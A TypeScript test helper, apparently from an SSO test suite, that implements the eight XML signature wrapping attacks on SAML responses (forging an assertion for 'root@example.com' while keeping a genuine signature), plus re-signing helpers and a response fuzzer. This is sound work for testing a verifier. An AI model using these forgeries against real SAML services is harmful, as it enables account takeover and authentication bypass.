// Attacks on a genuine signed response without its private key.
import { createHmac, createSign } from 'node:crypto'
import { signXml } from '@node-saml/node-saml/lib/xml.js'
import type { SamlKeys } from '../fakes/sso/saml-provider.ts'

export const VICTIM = 'ada@example.com'
export const INTRUDER = 'root@example.com'

/**
 * The eight classic signature wrapping attacks: the signed part is kept, and a forged one is put where it is
 * read.
 */
export const WRAPPINGS: Readonly<Record<string, (genuine: string) => string>> = {
  'XSW1: the signed response within the signature of another': (genuine) =>
    forgedResponse(genuine, (signature, original) => within('Signature', signature, original)),
  'XSW2: the signed response before its signature': (genuine) =>
    forgedResponse(genuine, (signature, original) => original + signature),
  'XSW3: another assertion before the signed one': (genuine) =>
    withAssertion(genuine, (signed) => forged(signed) + signed),
  'XSW4: the signed assertion within another': (genuine) =>
    withAssertion(genuine, (signed) => within('saml:Assertion', forged(signed), signed)),
  'XSW5: another assertion with the signature, the signed one after it': (genuine) =>
    withAssertion(genuine, (signed) => wearing(signed, signatureIn(signed)) + bare(signed)),
  'XSW6: the signed assertion within the signature of another': (genuine) =>
    withAssertion(genuine, (signed) =>
      wearing(signed, within('Signature', signatureIn(signed), bare(signed))),
    ),
  'XSW7: another assertion in an extension': (genuine) =>
    withAssertion(genuine, (signed) => `<samlp:Extensions>${forged(signed)}</samlp:Extensions>${signed}`),
  'XSW8: the signed assertion in an object of the signature of another': (genuine) =>
    withAssertion(genuine, (signed) =>
      wearing(signed, within('Signature', signatureIn(signed), `<Object>${bare(signed)}</Object>`)),
    ),
}

/** Changes the assertion and signs it with the provider's key. */
export function signedAnew(
  genuine: string,
  change: (assertion: string) => string,
  { privateKey }: SamlKeys,
): string {
  return signXml(
    withAssertion(genuine, (assertion) => change(bare(assertion))),
    "//*[local-name(.)='Assertion']",
    { reference: "//*[local-name(.)='Assertion']/*[local-name(.)='Issuer']", action: 'after' },
    { privateKey, signatureAlgorithm: 'sha256', digestAlgorithm: 'sha256' },
  )
}

/** Changes the SignedInfo of the assertion and signs it again. */
export function resigned(
  genuine: string,
  change: (signedInfo: string) => string,
  signer: (canonical: string) => string,
): string {
  const signedInfo = change(/<SignedInfo>.*?<\/SignedInfo>/s.exec(genuine)?.[0] ?? '')
  const value = signer(canonical(signedInfo))
  return genuine
    .replace(/<SignedInfo>.*?<\/SignedInfo>/s, signedInfo)
    .replace(/<SignatureValue>.*?<\/SignatureValue>/s, `<SignatureValue>${value}</SignatureValue>`)
}

export const rsa =
  ({ privateKey }: SamlKeys, algorithm = 'RSA-SHA256') =>
  (text: string): string =>
    createSign(algorithm).update(text).sign(privateKey, 'base64')

export const hmac =
  (secret: string) =>
  (text: string): string =>
    createHmac('sha1', secret).update(text).digest('base64')

/** Deterministic, so that a failing document can be reproduced. */
export function* mutations(genuine: string, count: number): Generator<string> {
  let state = 20_261_115
  const below = (limit: number) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0
    return (state >>> 8) % limit
  }
  const pieces = genuine.match(/<[^>]*>|[^<]+/g) ?? []
  for (let i = 0; i < count; i++) {
    const at = below(genuine.length)
    const [from, to] = [below(pieces.length), below(pieces.length)]
    const moved = pieces.toSpliced(from, 1).toSpliced(to, 0, pieces[from] ?? '')
    yield [
      () => genuine.slice(0, at) + String.fromCharCode(33 + below(90)) + genuine.slice(at + 1),
      () => genuine.slice(0, at) + genuine.slice(at + 1 + below(40)),
      () => pieces.toSpliced(to, 0, pieces[from] ?? '').join(''),
      () => moved.join(''),
    ][i % 4]?.() ?? genuine
  }
}

const canonical = (signedInfo: string): string =>
  signedInfo
    .replace('<SignedInfo>', '<SignedInfo xmlns="http://www.w3.org/2000/09/xmldsig#">')
    .replaceAll(/<(\w+)([^<>]*)\/>/g, '<$1$2></$1>')

const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s
const SIGNATURE = /<Signature .*?<\/Signature>/s

const signatureIn = (xml: string): string => SIGNATURE.exec(xml)?.[0] ?? ''
const bare = (xml: string): string => xml.replace(SIGNATURE, '')
const withAssertion = (xml: string, change: (assertion: string) => string): string =>
  xml.replace(ASSERTION, (assertion) => change(assertion))

/** The same assertion for another user, with another id and no signature. */
const forged = (assertion: string): string =>
  bare(assertion)
    .replaceAll(VICTIM, INTRUDER)
    .replace(/ ID="[^"]*"/, ' ID="_forged"')

const wearing = (assertion: string, signature: string): string =>
  forged(assertion).replace('</saml:Issuer>', `</saml:Issuer>${signature}`)

/** Inserts a last child. */
const within = (tag: string, xml: string, child: string): string =>
  `${xml.slice(0, xml.lastIndexOf(`</${tag}>`))}${child}</${tag}>`

/** Another response with an assertion for another user and the signature of the genuine one. */
function forgedResponse(genuine: string, place: (signature: string, original: string) => string): string {
  const signature = signatureIn(genuine)
  const original = genuine.replace(signature, '')
  return withAssertion(original, forged)
    .replace(/(<samlp:Response [^>]*)ID="[^"]*"/, '$1ID="_other"')
    .replace('</saml:Issuer>', () => `</saml:Issuer>${place(signature, original)}`)
}
